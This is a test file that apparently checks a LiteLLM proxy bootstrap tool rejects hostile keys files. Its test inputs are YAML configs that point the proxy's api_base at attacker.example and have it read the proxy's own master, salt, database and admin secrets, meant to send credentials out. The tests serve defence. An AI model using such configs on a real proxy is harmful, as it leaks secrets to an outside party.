/**
 * A keys file (LITELLM_BOOTSTRAP_CONFIG) written to make a run print a secret, or make the proxy
 * send one to an address of the writer's choosing (issue 24 item 5): each is refused with exit 2
 * naming the line (and column), before the proxy is asked anything, never quoting the value.
 * Every run's output is also checked for any 8-character piece of the secrets (support/cli.ts).
 */
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startLiteLLMStandIn, type LiteLLMStandIn } from '../support/litellm-stand-in.ts';
import { envDir, runCli, watchSecrets, type EnvDir } from '../support/cli.ts';

const MASTER = 'sk-Bw4Nq8Zt1Xr6Lm3Vc9Kp2Jd7Hs5Gf0Ya';
const LITERAL = 'sk-ant-api03-Tq6Wz1Rx8Mc3Vb5Nk9Lp2Jh7Gd4Fs0Ya';
const PASSWORD = 'Pw7Rk2Xz9Tq4Lm1Vb6Nc3Jh8';
watchSecrets(MASTER, LITERAL, PASSWORD);

const KEYS = 'keys:\n  - alias: a\n    env: A_KEY\n    models: [m]\n';
let litellm: LiteLLMStandIn;
let dir: EnvDir;

beforeEach(async () => {
  litellm = await startLiteLLMStandIn({ masterKey: MASTER, models: ['m'], storeModelsInDb: true });
  dir = await envDir(`LITELLM_MASTER_KEY=${MASTER}\nLITELLM_DEFAULT_MODELS=m\nOPENAI_API_KEY=sk-proxy-default\n`);
});
afterEach(async () => {
  await litellm.close();
  await dir.cleanup();
});

async function runWith(keysFile: string) {
  const file = path.join(dir.dir, 'keys.yaml');
  await writeFile(file, keysFile);
  const before = await dir.read();
  const r = await runCli([], { env: { ENV_FILE_PATH: dir.env, LITELLM_ENV_FILE_PATH: dir.litellm, PROXY_BASE_URL: litellm.url, LITELLM_PROXY_WAIT_SECONDS: '5', LITELLM_BOOTSTRAP_CONFIG: file } });
  // Nothing asked, nothing written.
  expect(litellm.requests.filter((q) => q.auth === 'master')).toEqual([]);
  expect(await dir.read()).toBe(before);
  return r;
}

describe('attack: a keys file that makes the run print a secret', () => {
  it('an alias whose anchor is not set (api_key: *sk-...): exit 2 naming line and column only', async () => {
    const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      api_key: *${LITERAL}\n`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.last).toMatch(/keys\.yaml is not valid YAML: line 9, column 16: an alias \(\*name\) whose anchor \(&name\) is not set before it/);
  });

  it('a syntax error on the line of a secret: line, column and the kind of error, never the text', async () => {
    const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      api_key: "${LITERAL}\n`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.last).toMatch(/keys\.yaml is not valid YAML: line \d+, column \d+: [a-z ]+/);
  });
});

describe('attack: a keys file that makes the proxy send a secret elsewhere', () => {
  it.each(['apikey', 'api-key', 'API_KEY'])('a literal credential under %s: exit 2 naming the line', async (param) => {
    const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      ${param}: ${LITERAL}\n`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.last).toContain(`line 9: models.0.litellm_params.${param} must be a reference os.environ/NAME, not a value`);
  });

  it('credentials in api_base (https://user:password@host): exit 2 naming the line', async () => {
    const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      api_base: https://user:${PASSWORD}@attacker.example/v1\n`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.last).toContain('line 9: models.0.litellm_params.api_base must not carry credentials in the URL');
  });

  it.each([
    ['LITELLM_MASTER_KEY', 'the master key'],
    ['LITELLM_SALT_KEY', 'the salt key'],
    ['DATABASE_URL', "the database's connection string"],
    // The stack's mirror writes LLM_PROXY_DB_PASSWORD of .env to the proxy as DATABASE_PASSWORD: refused like every DATABASE_*.
    ['DATABASE_PASSWORD', "the database's password (the stack mirrors LLM_PROXY_DB_PASSWORD to it)"],
    ['REDIS_PASSWORD', "the cache's password"],
    ['UI_PASSWORD', "the admin UI's password"],
  ])(
    "a model reading the proxy's own setting os.environ/%s (%s): exit 2 naming it",
    async (name) => {
      const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      api_base: https://attacker.example/v1\n      api_key: os.environ/${name}\n`);
      expect(r.code, r.stderr).toBe(2);
      expect(r.last).toContain(`line 10: models.0.litellm_params.api_key must not read ${name}, a setting of the proxy itself`);
    },
  );
});
